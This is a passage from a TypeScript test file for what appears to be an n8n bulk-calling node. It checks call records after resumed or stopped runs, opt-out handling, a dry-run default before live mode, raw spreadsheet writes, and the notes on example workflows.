			n === 1
				? toMend
				: n === 3
					? { ...called, Reached: 'no', 'Call reason': 'Busy', Conversation: '' }
					: called,
		);
		await run({ mode: 'live' });
		expect(await records()).toEqual(outcomes);
		await run();
		expect(await records()).toEqual(outcomes);

		// Outside their hours, and when nobody can be called, what became of the call stays in the record.
		const dates = [-1, 0, 1].map((days) =>
			new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10),
		);
		const { options } = workflow.nodes.find(({ name }) => name === 'Call people')!.parameters;
		await run({ options: { ...(options as object), noCallDates: dates.join(', ') } });
		expect(await records()).toEqual(outcomes);
		await run({ options, countries: [] });
		expect((await records()).toSpliced(1, 1)).toEqual(outcomes.toSpliced(1, 1));
		expect(bench.dialed).toHaveLength(4);
	});

	it('executed again after the wait was over, looks up the calls that were still open, and calls nobody twice', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 8_000 });
		const { workflow, run, records } = await withRecords('records, open', people(12), 'live', 0.02);
		await run();
		expect(await records()).toEqual(Array(12).fill(open));

		fillIn(workflow, 'How they went', { waitTimeout: 10 });
		await run();
		expect(await records()).toEqual(Array(12).fill(called));
		expect(bench.dialed).toHaveLength(12);
	});

	it('stopped while its calls last, has them in their records; executed again, it says of each who was reached', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 8_000 });
		const { workflow, run, records } = await withRecords('records, stopped', people(12), 'live');
		await cutShort(workflow, 'stopped', async () =>
			(await records()).every((record) => record['Call record'] !== ''),
		);
		expect(await records()).toEqual(Array(12).fill(open));
		await run();
		expect(await records()).toEqual(Array(12).fill(called));
		expect(bench.dialed).toHaveLength(12);
	});

	it('says of somebody who is called once more while the last call is open how the new call went', async () => {
		Object.assign(bench.sandbox.settings, { dialAfterMs: 300, finishAfterMs: 6_000 });
		const [person] = people(1);
		bench.sandbox.callErrors.set(person!.phone, 'Busy');
		const { workflow, run, records } = await withRecords(
			'records, once more',
			people(1),
			'live',
			0.02,
		);
		await run();
		const [before] = await records();
		expect(before).toEqual(open);

		bench.sandbox.callErrors.clear();
		fillIn(workflow, 'How they went', { waitTimeout: 10 });
		await run({ calledBefore: 'callAgain' });
		expect(await records()).toEqual([called]);
		expect((await records())[0]!['Call record']).not.toBe(before!['Call record']);
		expect(bench.dialed).toHaveLength(2);
	});

	it('calls nobody who opted out, also by another record with the number, and nobody at all when the field is not there', async () => {
		const [ada, bob] = people(2);
		const rows = [
			{ ...ada!, phone: '+14155550177' },
			bob!,
			{ ...ada!, phone: '+1-415-555-0177', opted_out: 'yes' },
		];
		const { run, table } = await withRecords('records, opted out', rows, 'live');
		const first = await run();
		expect(jsonOf(first, 'Call people').map(({ status }) => status)).toEqual([
			'do_not_call',
			'initiated',
			'do_not_call',
		]);
		expect(bench.dialed).toEqual([bob!.phone]);

		for (const { id } of await table.rows()) await table.update({ id: id! }, { opted_out: '' });
		const renamed = await run({ calledBefore: 'callAgain' });
		expect(jsonOf(renamed, 'Call people')[0]).toMatchObject({
			status: 'refused',
			reason: expect.stringMatching(/^No row has the column .*, which Opted Out names/),
		});
		expect(bench.dialed).toHaveLength(1);
	});
});

describe('every example', () => {
	const files = readdirSync(examples).filter((file) => file.endsWith('.workflow.json'));
	let described: Described;
	beforeAll(async () => {
		described = await describedNodes(bench.stage);
	});

	it.each(files)('%s imports, and n8n knows all its nodes and their fields', async (file) => {
		const { nodes } = await importExample(bench, file);
		const complaints = nodes.flatMap((node) => complaintsAbout(node, described(node)));
		// Chosen by its name, it may be another table: n8n takes the newest one whose name contains it.
		const tables = nodes.filter(
			({ parameters }) =>
				(parameters.dataTableId as { mode?: string } | undefined)?.mode === 'list',
		);
		const workflows = nodes.filter(
			({ parameters }) => (parameters.workflowId as { mode?: string } | undefined)?.mode === 'list',
		);
		expect(complaints.sort()).toEqual(
			[
				...tables.map(({ name }) => `${name}.dataTableId: Parameter "Data table" is required.`),
				// What a workflow is given can be filled in once it is chosen.
				...workflows.flatMap(({ name }) => [
					`${name}.workflowId: Parameter "Workflow" is required.`,
					`${name}.workflowInputs`,
				]),
			].sort(),
		);
		expect(JSON.stringify(nodes)).not.toMatch(/"dataTableId":\{"__rl":true,"mode":"name"/);
	});

	it.each(files)(
		'%s writes cells as they are, not as a person’s input, where it writes into a sheet',
		async (file) => {
			const { nodes } = await importExample(bench, file);
			const writing = nodes.filter(
				({ type, parameters }) =>
					/googleSheets|microsoftExcel/i.test(type) && parameters.operation !== 'read',
			);
			expect(writing.map(({ parameters }) => parameters.options)).toEqual(
				writing.map(() => ({ cellFormat: 'RAW' })),
			);
		},
	);

	it.each(files)(
		'%s calls nobody until Mode is set to Live, and remembers or counts whom it called, or has a database that does',
		async (file) => {
			const { nodes } = await importExample(bench, file);
			const calling = nodes.filter(({ parameters }) =>
				['bulkCall', 'placeCall'].includes(parameters.operation as string),
			);
			const hasDatabase = nodes.some(({ type }) => type === 'n8n-nodes-base.postgres');
			for (const { name, parameters } of calling) {
				const isAsked =
					nodes.some(({ type }) => type === 'n8n-nodes-base.executeWorkflowTrigger') &&
					parameters.mode === '={{ $json.mode }}';
				expect([name, isAsked || parameters.mode]).toEqual([name, isAsked || 'dryRun']);
				const options = parameters.options as { callsPerPerson?: object; optedOut?: string };
				// It only reads numbers: whatever its Mode, each of its rows opts out.
				const onlyReads = options.optedOut === 'yes';
				expect(
					hasDatabase || options.callsPerPerson || onlyReads ? ['skip', 'callAgain'] : ['skip'],
				).toContain(parameters.calledBefore);
			}
			const asking = nodes.flatMap(
				({ parameters }) =>
					(parameters.workflowInputs as { value?: { mode?: string } } | undefined)?.value?.mode ??
					[],
			);
			expect(asking).toEqual(asking.map(() => 'dryRun'));
			const note = nodes.find(({ type }) => type === 'n8n-nodes-base.stickyNote')!.parameters
				.content as string;
			if (calling.length + asking.length > 0) {
				expect(note).toMatch(
					/\*\*Nobody is called before (you (set Mode|change mode) to|somebody asks with) live\.?\*\*/i,
				);
				// The note is still there when it is live.
				expect(note).not.toMatch(/is called yet|is in \*Dry Run\*/);
			}
		},
	);

	it.each(files)('%s says on a note what it does and what to change', async (file) => {
		const { nodes } = await importExample(bench, file);
		const notes = nodes.filter(({ type }) => type === 'n8n-nodes-base.stickyNote');
		const text = notes.map(({ parameters }) => parameters.content as string).join('\n');
		expect(text).toMatch(/^## /);
		// Wider ones cannot be read when the editor shows the whole canvas.
		expect(notes.filter(({ parameters }) => Number(parameters.width) > 656)).toEqual([]);
		expect(text).toMatch(/### (What to change|Before the first run)/);
		expect(text.replaceAll('*On Error*', '')).not.toMatch(/error|problem|failure|mistake/i);
	});
});
